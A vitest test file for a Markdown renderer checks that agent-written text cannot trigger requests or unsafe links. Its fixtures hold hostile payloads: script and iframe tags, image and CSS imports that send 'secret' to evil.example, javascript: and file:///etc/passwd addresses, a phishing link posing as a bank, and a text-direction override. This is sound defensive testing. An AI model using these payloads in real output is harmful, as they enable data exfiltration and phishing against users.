import { lexer } from 'marked';
import { describe, expect, test } from 'vitest';
import { type MarkdownNode, markdownTree, safeTarget } from '../../src/data/markdown.ts';

function treeOf(text: string): MarkdownNode[] {
  return markdownTree(lexer(text));
}

/** All elements of a tree, without their place. */
function elementsOf(nodes: readonly MarkdownNode[]): Exclude<MarkdownNode, string>[] {
  return nodes.flatMap((node) =>
    typeof node === 'string' ? [] : [node, ...elementsOf(node.children)],
  );
}

function textOf(nodes: readonly MarkdownNode[]): string {
  return nodes.map((node) => (typeof node === 'string' ? node : textOf(node.children))).join('');
}

test('ordinary Markdown becomes elements', () => {
  const tree = treeOf(
    '# Title\n\nSome **bold** and `code`.\n\n3. three\n4. four\n\n| a |\n|---|\n| 1 |',
  );
  expect(elementsOf(tree).map(({ tag }) => tag)).toEqual([
    'h3',
    'p',
    'strong',
    'code',
    'ol',
    'li',
    'li',
    'table',
    'thead',
    'tr',
    'th',
    'tbody',
    'tr',
    'td',
  ]);
  expect(elementsOf(tree).find(({ tag }) => tag === 'ol')?.start).toBe(3);
});

describe('what agents write stays text and asks for nothing (spec: hostile output)', () => {
  test.each([
    '<script>alert(1)</script>',
    '<img src="https://evil.example/leak?secret">',
    'text <b onclick="x()">bold</b>',
    '<iframe src="https://evil.example"></iframe>',
    '<style>@import "https://evil.example"</style>',
  ])('HTML is shown as it was written: %s', (text) => {
    const tree = treeOf(text);
    expect(elementsOf(tree).filter(({ tag }) => tag !== 'p')).toEqual([]);
    expect(textOf(tree)).toContain(text.slice(0, 8));
  });

  test('an image is its address, never a request', () => {
    const tree = treeOf(
      '![chart](https://evil.example/?q=secret) ![r][1]\n\n[1]: https://evil.example/2',
    );
    expect(elementsOf(tree).map(({ tag }) => tag)).toEqual(['p']);
    expect(textOf(tree)).toContain('[image chart: https://evil.example/?q=secret]');
  });

  test.each([
    'javascript:alert(1)',
    'JaVaScRiPt:alert(1)',
    'data:text/html,<script>1</script>',
    'vbscript:x',
    'file:///etc/passwd',
    '/v1/oauth/token',
    '//evil.example',
    'https://user:pass@evil.example',
    'https:\\\\evil.example',
    'blob:https://evil.example/1',
  ])('%s is not a link', (address) => {
    expect(safeTarget(address)).toBeUndefined();
    const links = elementsOf(treeOf(`[click](<${address}>)`)).filter(({ tag }) => tag === 'a');
    expect(links).toEqual([]);
  });

  test('a link shows its host when its text names another', () => {
    const tree = treeOf('[https://bank.example](https://evil.example/login)');
    expect(textOf(tree)).toBe('https://bank.example (evil.example)');
    expect(elementsOf(tree).find(({ tag }) => tag === 'a')?.href).toBe(
      'https://evil.example/login',
    );
    expect(textOf(treeOf('<https://docs.example/a>'))).toBe('https://docs.example/a');
  });

  test('letters that turn the direction of text are made visible', () => {
    expect(textOf(treeOf('see `\u202egnp.exe`'))).toContain('⟨U+202E⟩');
  });

  test('a thousand levels of quotes end in text', () => {
    const deep = `${'> '.repeat(1000)}bottom`;
    const depth = (nodes: readonly MarkdownNode[]): number =>
      Math.max(
        0,
        ...nodes.map((node) => (typeof node === 'string' ? 0 : 1 + depth(node.children))),
      );
    expect(depth(treeOf(deep))).toBeLessThan(40);
  });
});
